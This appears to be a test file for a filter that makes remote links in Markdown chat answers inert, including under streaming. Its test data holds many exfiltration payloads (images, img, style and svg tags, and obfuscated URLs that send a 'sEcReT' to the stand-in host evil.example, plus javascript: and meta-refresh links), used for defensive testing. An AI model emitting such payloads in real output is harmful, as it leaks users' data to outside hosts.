"""Remote links in answers are made inert for every reader of Markdown, however a stream is cut."""

import html
import re
from html.parser import HTMLParser
from itertools import pairwise
from urllib.parse import unquote, urljoin, urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from kyozon.governance.links import REMOVED, LinkFilter, LinkMode, LinkRules, neutralised

PAGE = "https://page.example/chat/"
MARK = LinkRules("mark", frozenset({"docs.example", "*.ours.example"}))
STRIP = LinkRules("strip", MARK.hosts)
SECRET = "sEcReT"

PIECES = (
    *(
        "![a](",
        "[a](",
        "[a]: ",
        "[a]:\n",
        "[a]",
        "](",
        "]:",
        "<",
        ">",
        ")",
        "(",
        " ",
        "\n",
        "\n\n",
        "\t",
        '"',
        "'",
        "`",
        "```\n",
    ),
    *(
        "https://evil.example/?q=sEcReT",
        "https://docs.example/a",
        "http://x.ours.example",
        "https://docs.example",
        "//evil.example/",
    ),
    *(
        "www.evil.example/sEcReT",
        "ftp://evil.example/",
        "javascript:alert(1)",
        "data:text/html,x",
        "https:",
        "http",
        "://",
        "//",
        "/",
    ),
    *(
        "<img src=",
        "<img/src=",
        "<a href='",
        "<svg/onload=",
        "<style>",
        "</style>",
        "<b>",
        "<br/>",
        "@import ",
        "url(//evil.example)",
    ),
    *(
        "&#104;ttps://evil.example",
        "https&colon;//evil.example",
        "h\\ttps",
        "\\",
        "&",
        "&sol;",
        "#top",
        "/local",
        "./x.png",
        "?q=1",
    ),
    *("@evil.example", ".evil.example", ":8080", ".", ",", "。", "これは", "text", "x", "| a | b |\n", "> ", "- ", "    "),
)
TEXTS = st.lists(st.sampled_from(PIECES), max_size=14).map("".join)
FETCHING = {"src", "href", "srcset", "style", "poster", "action", "formaction", "data", "background", "xlink:href"}


class Addresses(HTMLParser):
    """Every address in a page that a browser would fetch, or go to."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._styles = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._styles = tag == "style"
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append("script:" + (value or ""))
            elif name in FETCHING and value is not None:
                self.found.append(value)

    def handle_data(self, data: str) -> None:
        if self._styles:
            self.found.append("style:" + data)


def fetched(markdown: str) -> list[str]:
    """What a page that renders this Markdown, HTML included, could ask of hosts other than its own and the allowed ones."""
    found = []
    # By the book; and by a page that takes the text for HTML.
    for shown in (MarkdownIt("commonmark", {"html": True}).enable(["table"]).render(markdown), markdown):
        page = Addresses()
        page.feed(shown.replace("<![", "&lt;!["))  # a browser reads on where Python's parser gives up
        page.close()
        found += page.found
    return [address for address in found if not _harmless(address)]


def _harmless(address: str) -> bool:
    # As a browser reads it: blanks at the ends and line ends go, a backslash is a slash.
    address = re.sub(r"[\t\r\n]", "", html.unescape(address).strip("\x00\x1f ")).replace("\\", "/")
    parts = urlsplit(urljoin(PAGE, address))
    host = unquote(parts.hostname or "").rstrip(")\"'`.,;!*_}")  # no top-level domain is called so
    if set(host) & set(" <>[]^|"):
        return True  # no browser takes such a host
    return parts.scheme in ("http", "https") and (host == "page.example" or MARK.allows(host))


@pytest.mark.parametrize("rules", [MARK, STRIP], ids=lambda rules: rules.mode)
@pytest.mark.parametrize(
    "attack",
    [
        "![x](https://evil.example/?q=sEcReT)",
        "![x]( <https://evil.example/?q=sEcReT> 'title')",
        "![x](\nhttps://evil.example/?q=sEcReT)",
        "![x](//evil.example/sEcReT)",
        "![x](\\/\\/evil.example/sEcReT)",
        "![x](&#104;ttps&#58;//evil.example/sEcReT)",
        "![x](/&sol;evil.example/sEcReT)",
        "![x](https://docs.example@evil.example/sEcReT)",
        "![x](https://docs.example.evil.example/sEcReT)",
        "![x](https://docs.example\\@evil.example/sEcReT)",
        "![x](https://docs.example&commat;evil.example/sEcReT)",
        "![x](https://docs.example。evil.example/sEcReT)",
        "![x][y]\n\n[y]: https://evil.example/sEcReT",
        "![y]\n\n[y]:\n  <https://evil.example/sEcReT>",
        "> ![y]\n>\n> [y]:\n> //evil.example/sEcReT",
        "- ![y]\n\n  [y]:\n  //evil.example/sEcReT",
        "<https://evil.example/sEcReT>",
        "<img src='https://evil.example/sEcReT'>",
        "<img/src=//evil.example/sEcReT>",
        '<x"y style="background:url(//evil.example/sEcReT)">',
        "<style>@import '//evil.example/sEcReT'</style>",
        "<svg><image href=//evil.example/sEcReT></svg>",
        "```\n[a]: x\n```\n![x](https://evil.example/sEcReT)",
    ],
)
def test_no_renderer_fetches_what_an_attacker_wrote(attack: str, rules: LinkRules) -> None:
    assert fetched(attack), "the attack itself must work"

    assert fetched(neutralised(attack, rules)) == []


@pytest.mark.parametrize(
    ("attack", "inert"),
    [
        ("![x](/\\evil.example/)", "![x] (/\\evil.example/)"),
        ("![x](https:evil.example/)", "![x] (https:evil.example/)"),
        ("![x](</\t/evil.example/>)", "![x] (</\t/evil.example/>)"),
        ("[x](vbscript:x)", "[x] (vbscript:x)"),
        ("> [y]:\n> https://evil.example/", "> [y] :\n> https[:]//evil.example/"),
        ("> [y]:\n> //evil.example/", "> [y] :\n> //evil.example/"),
        ("> ![y](\n> //evil.example/)", "> ![y] (\n> //evil.example/)"),
        ("<vscode://x/?y>", "< vscode://x/?y>"),
        ("<javascript:alert(1)>", "< javascript:alert(1)>"),
        (
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "< meta http-equiv=refresh content='0;url=//evil.example'>",
        ),
        (
            "<https://docs.example//style=background:url(//evil.example)>",
            "< https://docs.example//style=background:url(//evil.example)>",
        ),
        ("<https://docs.example/a<img src=//evil.example/>", "< https://docs.example/a< img src=//evil.example/>"),
        (
            "[x](<https://docs.example/a style=background:url(//evil.example)>)",
            "[x](< https://docs.example/a style=background:url(//evil.example)>)",
        ),
        ("https&colon;//evil.example/", "https[:]//evil.example/"),
        ("HTTPS:\\\\evil.example", "HTTPS[:]\\\\evil.example"),
        ("https://docs.example).evil.example/", "https[:]//docs.example).evil.example/"),
        ("x](https://docs.example).evil.example/", "x] (https[:]//docs.example).evil.example/"),
        ("https://docs.example:80@evil.example/", "https[:]//docs.example:80@evil.example/"),
        ("https://docs.example_.evil.example/", "https[:]//docs.example_.evil.example/"),
    ],
)
def test_what_only_some_readers_follow_is_made_inert_too(attack: str, inert: str) -> None:
    assert neutralised(attack, MARK) == inert


@given(text=TEXTS, mode=st.sampled_from(["mark", "strip"]))
@settings(max_examples=400)
def test_nothing_remote_is_left_to_fetch(text: str, mode: LinkMode) -> None:
    rules = LinkRules(mode, MARK.hosts)

    assert fetched(neutralised(text, rules)) == []
    assert not re.search(r"(?i)(?:https?|ftp)://(?!docs\.example|x\.ours\.example)", neutralised(text, rules))


@given(
    text=st.one_of(TEXTS, st.text(max_size=60)),
    cuts=st.lists(st.integers(0, 200), max_size=8),
    mode=st.sampled_from(["mark", "strip"]),
)
@settings(max_examples=400)
def test_any_chunking_gives_the_same(text: str, cuts: list[int], mode: LinkMode) -> None:
    rules = LinkRules(mode, MARK.hosts)
    places = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    links = LinkFilter(rules)
    out = "".join(links.feed(text[begin:end]) for begin, end in pairwise(places)) + links.finish()

    assert out == neutralised(text, rules)


@pytest.mark.parametrize("length", [1, 2, 3, 7])
def test_a_long_stream_gives_the_same_in_small_pieces(length: int) -> None:
    text = (
        "a ![x](https://evil.example/"
        + "q" * 400
        + ") [y](/"
        + "z" * 400
        + ") <"
        + "n" * 400
        + " https://docs.example/"
        + "p" * 400
    )
    for rules in (MARK, STRIP):
        links = LinkFilter(rules)
        out = "".join(links.feed(text[at : at + length]) for at in range(0, len(text), length)) + links.finish()
        assert out == neutralised(text, rules)


@pytest.mark.parametrize(
    "text",
    [
        "Plain words, a < b, x[1](2), and/or; 「注」：これは。",
        "[see](https://docs.example/a?b=c#d) and ![local](/files/plot.png) and [top](#top).",
        "[x](https://docs.example)です。 https://docs.example, (http://a.b.ours.example:8080/x).",
        "[1]: https://docs.example/a\n[^2]: A note.\n<https://docs.example/x> [y](<https://docs.example/z>)",
        "`List<String>` <b>bold</b><br/> #include <vector>",
        "def f(x: list[int]) -> dict[str, int]: return {x[0]: 1}",
    ],
)
def test_what_carries_nothing_out_is_left_as_it_is(text: str) -> None:
    assert neutralised(text, MARK) == text
    assert neutralised(text, STRIP) == text


def test_mark_keeps_the_address_readable_and_strip_takes_it_out() -> None:
    text = "![plot](https://evil.example/?q=sEcReT) or www.evil.example/sEcReT now"

    assert neutralised(text, MARK) == "![plot] (https[:]//evil.example/?q=sEcReT) or www[.]evil.example/sEcReT now"
    assert neutralised(text, STRIP) == f"![plot] ({REMOVED}) or {REMOVED} now"


def test_a_stream_holds_back_no_more_than_it_must() -> None:
    links = LinkFilter(MARK)

    assert links.feed("Words that end here. See ") == "Words that end here. See "
    assert links.feed("htt") == ""
    assert links.feed("ing") == "htting"
    assert links.feed("](/a") == "](/a"
    assert links.feed("![x](https://evil.example/") == "![x] (https[:]//evil.example/"
    assert links.feed(" https://docs.example/") == " https://docs.example/"
    assert len(links.feed("https://docs.example" + "a" * 1000)) > 600


@pytest.mark.parametrize(
    ("host", "allowed"),
    [
        ("docs.example", True),
        ("DOCS.example.", True),
        ("sub.docs.example", False),
        ("a.ours.example", True),
        ("a.b.ours.example", True),
        ("ours.example", False),
        ("notours.example", False),
        ("a." * 130 + "ours.example", False),
    ],
)
def test_the_list_of_hosts(host: str, allowed: bool) -> None:  # noqa: FBT001 - a parameter of the test
    assert MARK.allows(host) is allowed
